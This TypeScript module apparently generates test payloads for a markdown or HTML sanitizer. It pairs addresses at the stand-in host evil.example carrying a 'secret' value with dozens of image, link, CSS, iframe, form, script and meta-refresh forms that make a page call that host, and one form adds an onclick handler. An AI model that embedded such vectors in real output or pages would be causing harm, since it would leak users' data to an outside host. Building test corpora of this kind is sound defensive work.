/** Ways to make a page call another host with what was said in the address. */
import type { Family } from './family.ts';

const ADDRESSES: readonly string[] = [
  'https://evil.example/?q=secret',
  'http://evil.example/secret.png',
  '//evil.example/?q=secret',
  '\\\\evil.example\\secret',
  'https:evil.example/secret',
  '/secret.png?q=secret',
  'secret.png',
  '?q=secret',
  'https://secret.evil.example/',
  'https://evil.example:8443/?q=secret',
  'https://user:secret@evil.example/',
  'HTTPS://EVIL.EXAMPLE/?q=secret',
];

const FORMS: readonly ((address: string) => string)[] = [
  (address) => `![a](${address})`,
  (address) => `![a](<${address}> "title")`,
  (address) => `![${address}](${address} '${address}')`,
  (address) => `![a][b]\n\n[b]: ${address}`,
  (address) => `![b][]\n\n[b]: <${address}>`,
  (address) => `![b]\n\n> [b]: ${address}`,
  (address) => `[![a](${address})](${address})`,
  (address) => `[![a][b]][c]\n\n[b]: ${address}\n[c]: ${address}`,
  (address) => `<${address}>`,
  (address) => address,
  (address) => `www.evil.example/?q=secret ${address} a@evil.example`,
  (address) => `[a](${address} "b"){target=_self onclick=alert(1)}`,
  (address) => `[^1]\n\n[^1]: ![a](${address})`,
  (address) => `![a](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${address}'/></svg>)`,
  (address) => `<img src="${address}">`,
  (address) => `<img srcset="${address} 1x, ${address} 2x" sizes=1px>`,
  (address) => `<picture><source srcset="${address}"><img></picture>`,
  (address) => `<video poster="${address}" src="${address}" autoplay><track src="${address}" default></video>`,
  (address) => `<audio src="${address}" autoplay preload=auto></audio>`,
  (address) =>
    `<link rel=stylesheet href="${address}"><link rel=prefetch href="${address}"><link rel=icon href="${address}">`,
  (address) =>
    `<link rel=preconnect href="${address}"><link rel=dns-prefetch href="${address}"><link rel=modulepreload href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}"><img src=a.png><a href=a>a</a>`,
  (address) =>
    `<form action="${address}" method=post><input name=q value=secret autofocus><input type=image src="${address}"></form>`,
  (address) =>
    `<svg><image href="${address}" width=1 height=1 /><use href="${address}#a"/><feImage href="${address}"/></svg>`,
  (address) =>
    `<style>@import "${address}"; * { background: url("${address}") } @font-face { font-family: a; src: url("${address}") }</style>`,
  (address) => `<p style="background:url('${address}');list-style-image:url('${address}')">a</p>`,
  (address) => `<table background="${address}"><td background="${address}">a</table><body background="${address}">`,
  (address) =>
    `<iframe src="${address}"></iframe><frame src="${address}"><object data="${address}"></object><embed src="${address}">`,
  (address) => `<a href="${address}" ping="${address}" download>a</a>`,
  (address) =>
    `<script src="${address}"></script><script type=speculationrules>{"prefetch":[{"urls":["${address}"]}]}</script>`,
  (address) =>
    `<template shadowrootmode=open><img src="${address}"></template><slot name=header><img src="${address}"></slot>`,
  (address) => `<math><mtext><mglyph><img src="${address}"></mglyph></mtext></math>`,
];

const AROUND: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `> - 1. ${text.replaceAll('\n', '\n>      ')}`,
  (text) => `|a|\n|-|\n|${text.replaceAll('\n', ' ')}|`,
  (text) => `# **${text}**`,
  (text) => `- [x] ~~${text.replaceAll('\n', '\n  ')}~~`,
  (text) => `\`\`\`html\n${text}\n\`\`\`\n\n${text}`,
  (text) => `[${text}](https://a.example/)`,
  (text) => `![${text}](https://a.example/a.png)`,
  (text) => `<details open><summary>${text}</summary>\n\n${text}\n\n</details>`,
];

/** Forms, addresses and what is around them, each with each. */
export const EXFILTRATION: Family = {
  name: 'exfiltration',
  sizes: [FORMS.length, ADDRESSES.length, AROUND.length],
  make: ([form = 0, address = 0, around = 0]) => {
    const text = FORMS[form]?.(ADDRESSES[address] ?? '') ?? '';
    return { kind: 'markdown', payload: AROUND[around]?.(text) ?? '' };
  },
};
